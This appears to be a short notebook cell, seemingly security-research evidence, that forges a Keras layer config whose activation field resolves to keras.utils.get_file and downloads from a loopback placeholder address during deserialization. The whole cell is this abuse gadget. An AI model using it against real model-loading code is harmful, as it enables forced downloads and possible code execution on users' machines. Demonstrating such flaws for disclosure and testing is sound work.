# first cell: evidence

# %%
fetch = {"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "function"}
pretend(network({"module": "keras.layers", "class_name": "Activation", "name": "l", "registered_name": None,
                 "config": {"name": "l", "activation": fetch, "origin": "http://127.0.0.1:9/x"}, "inbound_nodes": []}))

print("forged")
